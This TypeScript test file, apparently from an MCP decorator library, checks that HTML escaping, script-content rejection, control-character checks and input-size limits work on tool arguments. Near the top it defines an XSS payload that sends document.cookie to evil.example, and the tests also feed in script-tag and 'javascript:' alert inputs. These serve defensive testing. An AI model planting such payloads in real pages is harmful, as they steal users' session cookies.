import { IsEmail, IsString, Length, MaxLength } from 'class-validator';
import { createMcpApp, EscapeHtml, McpDefinitionError, NoScriptContent, SecureInput, Tool, Trim, type TestClient } from 'mcp-decorators';
import { injectable } from 'tsyringe';
import { useApps } from '../support/app-harness';

const XSS = `<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`;

describe.each([['2026-07-28'], ['2025-11-25']])('secure input, end to end through a real SDK client (%s)', (protocolVersion) => {
  class CommentInput {
    @Trim() @EscapeHtml() @IsString() @MaxLength(500) body!: string;
  }

  class UserMessage extends SecureInput {
    @NoScriptContent() @Length(1, 1000) message!: string;
    @IsEmail() recipient!: string;
  }

  class NoteInput {
    @IsString() note!: string;
  }

  @injectable()
  class Tools {
    readonly received: unknown[] = [];

    @Tool()
    comment({ body }: CommentInput): string {
      this.received.push(body);
      return body;
    }

    @Tool()
    send({ message, recipient }: UserMessage): string {
      this.received.push(message);
      return `Message sent securely to ${recipient}`;
    }

    @Tool()
    note({ note }: NoteInput): number {
      return note.length;
    }
  }

  const apps = useApps('all');
  let client: TestClient;
  let tools: Tools;

  beforeAll(async () => {
    const started = await apps.start(
      { name: 'secure', version: '1', providers: [Tools], logger: { level: 'error' }, inputLimits: { maxStringLength: 64, maxDepth: 4 } },
      { protocolVersion },
    );
    client = started.client;
    tools = started.app.container.resolve(Tools);
  });

  beforeEach(() => tools.received.splice(0));

  it('an XSS payload through @EscapeHtml() reaches the method escaped', async () => {
    const result = await client.callTool('comment', { body: `  ${XSS.slice(0, 60)}  ` });
    expect(tools.received).toEqual([result]);
    expect(result).not.toMatch(/[<>"']/);
    expect(result).toMatch(/^&lt;img src=x onerror=&quot;fetch\(&#x27;https:&#x2F;&#x2F;evil\.example/);
  });

  it('the same payload through @NoScriptContent() is rejected with a clear message, and the method never runs', async () => {
    const error = (await client.callTool('send', { message: 'hello <SCRIPT>alert(1)</SCRIPT>', recipient: 'ada@example.com' }).catch((e: Error) => e)) as Error;
    expect(error.message).toBe('Invalid arguments for tool send: message contains potentially dangerous content (<script)');
    await expect(client.callTool('send', { message: 'java\nscript:alert(1)', recipient: 'ada@example.com' })).rejects.toThrow(
      /message contains potentially dangerous content \(javascript:\)/,
    );
    expect(tools.received).toEqual([]);
    expect(await client.callTool('send', { message: 'See you at 5', recipient: 'ada@example.com' })).toBe('Message sent securely to ada@example.com');
  });

  it('SecureInput rejects control characters and advertises it', async () => {
    await expect(client.callTool('send', { message: 'hi\u0000there', recipient: 'ada@example.com' })).rejects.toThrow(
      'Invalid arguments for tool send: message must not contain control characters (U+0000 at position 2)',
    );
    const listed = await client.listTools();
    const send = listed.find((t) => t.name === 'send')!;
    expect(send.inputSchema.properties?.message).toMatchObject({ type: 'string', maxLength: 1000, pattern: expect.stringContaining('\\u0000') });
  });

  it('the app’s input limits apply before validation and name the limit', async () => {
    await expect(client.callTool('note', { note: 'x'.repeat(65) })).rejects.toThrow(
      'Invalid arguments for tool note: string at note is longer than 64 characters (limit maxStringLength)',
    );
    expect(await client.callTool('note', { note: 'x'.repeat(64) })).toBe(64);
  });

  it('refuses an input limit that is not a positive integer, at creation', async () => {
    await expect(createMcpApp({ name: 'x', version: '1', providers: [], inputLimits: { maxDepth: 0 } })).rejects.toThrow(McpDefinitionError);
    await expect(createMcpApp({ name: 'x', version: '1', providers: [], inputLimits: { maxBytes: 1.5 } })).rejects.toThrow(
      'inputLimits.maxBytes must be a positive integer, got 1.5',
    );
  });
});
